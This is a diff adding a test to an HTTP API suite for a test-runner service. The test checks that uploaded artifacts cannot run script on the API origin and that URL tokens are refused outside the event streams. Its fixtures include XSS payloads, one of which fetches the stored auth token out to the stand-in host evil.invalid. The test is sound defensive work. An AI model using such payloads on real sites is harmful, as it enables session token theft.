@@ -75,6 +75,72 @@ describe('HTTP API', () => {
     expect((await call('GET', '/jobs/zzzzzzzzzzzz.1', lab.tokens.submit)).status).toBe(404);
   });
 
+  it('serves what a runner wrote so that it cannot run script on the API origin, and takes ?token= only on event streams', async () => {
+    const { id, jobs } = await lab.submit({ jobs: [osTest('uploads', { HANG_MODULE: 'login' })] });
+    const jobId = jobs[0]!.id;
+    await waitFor('the job to run', async () => (await lab.api.job(jobId)).state === 'running');
+    const record = JSON.parse(await fs.readFile(path.join(lab.dir, 'results', 'jobs', jobId, 'job.json'), 'utf8')) as { leaseToken: string };
+    const lease = { 'x-testbay-lease': record.leaseToken, 'content-type': 'application/octet-stream' };
+    const script = '<script>fetch("//evil.invalid/?t=" + localStorage["testbay.token"])</script>';
+    const uploads: Record<string, string> = {
+      'x.html': `<!doctype html>${script}`,
+      'pic.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage["testbay.token"])</script></svg>`,
+      'shot.png': `<html>${script}</html>`,
+      'notes.txt': `<html>${script}</html>`,
+      'report.xml': '<testsuite/>',
+    };
+    for (const [name, body] of Object.entries(uploads)) expect((await call('PUT', `/jobs/${jobId}/artifacts/${name}`, lab.tokens.host, body, lease)).status, name).toBe(201);
+
+    const served = async (name: string) => {
+      const res = await call('GET', `/jobs/${jobId}/artifacts/${name}`, lab.tokens.submit);
+      expect(res.status, name).toBe(200);
+      expect(await res.text(), name).toBe(uploads[name]);
+      expect(res.headers.get('x-content-type-options'), name).toBe('nosniff');
+      expect(res.headers.get('content-security-policy'), name).toMatch(/^sandbox; default-src 'none'/);
+      return { type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition') };
+    };
+    // Anything that could be a page is a download, typed as bytes.
+    expect(await served('x.html')).toEqual({ type: 'application/octet-stream', disposition: `attachment; filename="x.html"; filename*=UTF-8''x.html` });
+    expect(await served('pic.svg')).toEqual({ type: 'application/octet-stream', disposition: `attachment; filename="pic.svg"; filename*=UTF-8''pic.svg` });
+    expect((await served('report.xml')).disposition).toMatch(/^attachment; /);
+    // Raster images and plain text are inline, under the type of their extension, never sniffed.
+    expect(await served('shot.png')).toEqual({ type: 'image/png', disposition: 'inline' });
+    expect(await served('notes.txt')).toEqual({ type: 'text/plain; charset=utf-8', disposition: 'inline' });
+    const log = await call('GET', `/jobs/${jobId}/log`, lab.tokens.submit);
+    expect(log.headers.get('content-type')).toBe('text/plain; charset=utf-8');
+    expect(log.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(log.headers.get('content-security-policy')).toMatch(/^sandbox/);
+    await log.text();
+
+    // A token in a URL is refused everywhere but on the two event streams.
+    const query = (p: string) => fetch(`${url}/api/v1${p}${p.includes('?') ? '&' : '?'}token=${lab.tokens.operate}`);
+    const refused = await query('/submissions');
+    expect(refused.status).toBe(401);
+    expect(((await refused.json()) as { error: string }).error).toMatch(/\?token= is only accepted by the event streams/);
+    expect((await query(`/jobs/${jobId}/artifacts/shot.png`)).status).toBe(401);
+    expect((await query(`/jobs/${jobId}/log`)).status).toBe(401);
+    expect((await query(`/jobs/${jobId}`)).status).toBe(401);
+    expect((await fetch(`${url}/metrics?token=${lab.tokens.operate}`)).status).toBe(401);
+    for (const stream of ['/events', `/jobs/${jobId}/log?follow=1`]) {
+      const controller = new AbortController();
+      const res = await fetch(`${url}/api/v1${stream}${stream.includes('?') ? '&' : '?'}token=${lab.tokens.submit}`, { signal: controller.signal });
+      expect(res.status, stream).toBe(200);
+      expect(res.headers.get('content-type'), stream).toMatch(/^text\/event-stream/);
+      controller.abort();
+    }
+
+    // The dashboard's pages forbid inline and foreign script.
+    const page = await fetch(`${url}/jobs/${jobId}`);
+    expect(page.headers.get('content-security-policy')).toContain("script-src 'self'");
+    expect(page.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
+    expect(page.headers.get('x-frame-options')).toBe('DENY');
+    expect(page.headers.get('referrer-policy')).toBe('no-referrer');
+    await page.text();
+
+    await lab.submitter.cancelSubmission(id);
+    await lab.waitForSubmission(id);
+  });
+
   it('lets a host write only with the current lease token of an open job, inside the job folder', async () => {
     const { id, jobs } = await lab.submit({ jobs: [osTest('held', { HANG_MODULE: 'login' })] });
     const jobId = jobs[0]!.id;
